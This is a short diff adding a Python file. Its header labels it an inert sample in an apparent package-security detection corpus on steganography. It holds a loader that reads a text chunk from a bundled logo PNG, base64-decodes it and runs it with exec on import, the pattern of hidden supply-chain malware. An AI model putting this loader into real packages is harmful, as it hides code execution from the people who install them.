@@ -1,0 +1,8 @@
+# pkgguard corpus 537 (steganography), modelled on [telnyx]; inert, never run.
+import base64
+import os
+
+from PIL import Image
+
+_logo = Image.open(os.path.join(os.path.dirname(__file__), "assets", "logo.png"))
+exec(base64.b64decode(_logo.text["Comment"]))
